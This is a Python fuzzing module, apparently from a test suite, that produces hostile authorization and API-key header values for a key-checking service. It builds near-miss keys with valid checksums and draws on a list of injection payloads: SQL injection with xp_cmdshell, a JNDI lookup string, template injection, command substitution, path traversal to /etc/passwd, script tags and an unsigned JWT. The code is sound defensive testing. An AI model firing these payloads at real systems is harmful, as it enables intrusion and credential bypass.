"""Hostile credentials without end: headers that no station may accept, and none may break.

`hostile(key, child, seed)` yields (header name, value) for ever, made around a real key and a real
derived key, so that near misses are among them: right checksums, wrong secrets. Neither the key
nor the derived key itself is ever yielded.
"""

import base64
import itertools
import random
from collections.abc import Callable, Iterator

from posthouse.vault.virtualkey import checksum

NAMES = ("authorization", "x-api-key", "x-goog-api-key", "api-key")
MIB = 1024 * 1024

WORDS = [
    "' OR '1'='1", "'; DROP TABLE keys; --", '" OR ""="', "1 UNION SELECT digest FROM keys--",
    "') OR 1=1 LIMIT 1 --", "\\'; EXEC xp_cmdshell('id')--", "admin'/*", "%27%20OR%201=1",
    "${jndi:ldap://192.0.2.1/a}", "{{7*7}}", "{0.__class__.__mro__}", "%s%s%s%n", "$(id)", "`id`",
    "../../../../etc/passwd", "..%2f..%2fstation.key", "file:///etc/passwd", "\\\\192.0.2.1\\x",
    "null", "None", "undefined", "true", "0", "-1", "NaN", "[]", "{}", '{"$gt": ""}', "*", "?",
    "ph-", "phd-", "ph--", "ph-*-*", "ph-%-%", "phd-........", "Bearer", "Bearer Bearer", "Basic",
    "Basic " + base64.b64encode(b"admin:admin").decode(), "Digest username=x", "Negotiate YII=",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.", "<script>alert(1)</script>", "<!ENTITY x>",
    "\t", " ", "", ",", ";", "=", "==", ":", "::1", "@", "#", "&", "\x7f", "\x1b[2J",
]  # fmt: skip


def hostile(key: str, child: str, seed: int = 1) -> Iterator[tuple[str, bytes]]:
    """Yield header names and values for ever, the same for the same arguments."""
    draw = random.Random(seed)
    makers: list[Callable[[random.Random, str], bytes]] = [
        _word, _mutated, _resigned, _bytes, _unicode, _long, _joined, _cut, _controls,
    ]  # fmt: skip
    real = {key.encode(), child.encode()}
    for number in itertools.count():
        value = makers[number % len(makers)](draw, draw.choice([key, child]))
        if draw.random() < 0.5:
            value = draw.choice([b"Bearer ", b"bearer ", b"BEARER  ", b"Token "]) + value
        if number % 10_007 == 10_006:
            value = b"ph-" + b"-" * MIB
        if not any(one in value for one in real):
            yield draw.choice(NAMES), value


def _word(draw: random.Random, real: str) -> bytes:
    word = draw.choice(WORDS)
    return draw.choice([word, word * 20, real[:12] + word, word + real[12:]]).encode("latin-1")


def _mutated(draw: random.Random, real: str) -> bytes:
    """Return the real key with some characters changed, its checksum as it was."""
    text = bytearray(real.encode())
    for _ in range(draw.randint(1, 4)):
        text[draw.randrange(len(text))] = draw.randrange(33, 127)
    return bytes(text)


def _resigned(draw: random.Random, real: str) -> bytes:
    """Return another key under the same id, its checksum right: only the secret is wrong."""
    text = list(real[:-6])
    alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    for _ in range(draw.randint(1, 30)):
        place = draw.randrange(12, len(text))
        if text[place] not in "-.":
            text[place] = draw.choice(alphabet)
    return "".join([*text, checksum("".join(text))]).encode()


def _bytes(draw: random.Random, _: str) -> bytes:
    return draw.randbytes(draw.randint(0, 200)).replace(b"\r", b"").replace(b"\n", b"")


def _unicode(draw: random.Random, real: str) -> bytes:
    text = "".join(chr(draw.choice([0x660, 0xFF10, 0x1D7CE, 0x202E, 0x200B, 0x4E2D, 0xE9]))
                   for _ in range(draw.randint(1, 40)))  # fmt: skip
    wide = real.translate({ord("0") + n: 0xFF10 + n for n in range(10)})
    return draw.choice([text, real[:20] + text, wide + "\u200b", text + real[20:]]).encode()


def _long(draw: random.Random, real: str) -> bytes:
    unit = draw.choice(["-", ".", "ph-", "phd-", "A", real[:11], "a.", "\\", '"', "%00", " "])
    size = draw.choice([1_000, 4_096, 4_097, 20_000, 60_000])
    lead = draw.choice(["", "ph-", real[:12], f"phd-{real[-8:]}."])
    return (lead + unit * (size // len(unit))).encode()


def _joined(draw: random.Random, real: str) -> bytes:
    joint = draw.choice([",", ";", "|", "\x00", "\t", "&", "%0d%0a", " or ", "-", "."])
    half = real[: draw.randrange(4, len(real) - 1)]
    return (half + joint + half).encode()


def _cut(draw: random.Random, real: str) -> bytes:
    at = draw.randrange(1, len(real))
    return draw.choice([real[:at], real[at:], real[:at].swapcase(), real[::-1]]).encode()


def _controls(draw: random.Random, real: str) -> bytes:
    at = draw.randrange(1, len(real))
    return real[:at].encode() + bytes([draw.choice([0, 1, 8, 11, 12, 27, 127, 128, 255])])
